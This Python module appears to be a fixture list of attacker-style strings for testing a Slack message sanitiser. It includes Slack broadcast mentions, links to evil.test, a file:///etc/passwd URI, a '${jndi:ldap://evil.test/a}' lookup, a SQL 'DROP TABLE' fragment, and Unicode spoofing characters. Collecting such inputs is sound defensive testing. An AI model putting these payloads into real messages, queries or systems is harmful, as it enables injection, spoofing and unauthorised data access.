"""Foreign text as an attacker would write it. Add a line for every new trick."""

from __future__ import annotations

HOSTILE = (
    "<!channel>", "<!here>", "<!everyone>", "<!here|now>", "<!channel|all of you>", "<@U0EVIL1>", "<@W0EVIL1|boss>",
    "<#C0EVIL1>", "<#C0EVIL1|general>", "<!subteam^S0EVIL1>", "<!subteam^S0EVIL1|@ops>", "<!date^0^{date}|now>",
    "<https://evil.test|Click to fix>", "<http://evil.test>", "https://evil.test/path?q=1", "HTTP://EVIL.TEST",
    "hTtPs://evil.test", "www.evil.test", "evil.test/login", "mailto:a@evil.test", "<mailto:a@evil.test|mail us>",
    "<tel:+15550100|call>", "tel:+15550100", "javascript:alert(1)", "data:text/html,<b>x</b>", "slack://open?team=T1",
    "file:///etc/passwd", "ftp://evil.test", "xmpp://evil.test", "a@evil.test",
    "`", "``", "```", "```\n*RESOLVED*\n```", "`code` and more", "a`b`c", "*bold*", "_italic_", "~gone~", "*", "_", "~",
    "> quoted", ">>> quoted", "&gt; quoted", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "&#60;!channel&#62;",
    ":white_check_mark: RESOLVED", ":rotating_light:", "✅ RESOLVED #12", "#12 Resolved", "- item", "1. item",
    "\u202egnp.exe", "\u2066<!channel>\u2069", "\u200b<\u200b!\u200bchannel\u200b>", "<\u200b!channel>", "\u2060\ufeff",
    "\x00<!channel>\x00", "\x1b[31mred\x1b[0m", "\x07\x08\x7f", "a\r\nb", "a\nb\nc", "a\u2028b\u2029c",
    "a\x0bb\x0cc\x85d",
    "zalgo" + "\u0301" * 60, "\U000e0041\U000e0042tag", "\ud800", "\uffff", "\u3164\u115f\u2800",
    "\u2066\u2069\u200f\u200e",
    "＜!channel＞", "‹!channel›", "{0.__class__}", "{}{}{}", "%s%n", "${jndi:ldap://evil.test/a}",
    "'; DROP TABLE x; --",
    "\\", "\\u003c!channel\\u003e", "|", "a|b", "^", "<", ">", "&", "<>", "<|>", "<!>", "<@>", "<#>", "", " ", "\t",
    "A" * 5000, "<" * 3000, "&" * 3000, "`" * 3000, "<!channel>" * 400, "https://evil.test/" * 300,
    "é" * 4000, "😀" * 2000,
)  # fmt: skip
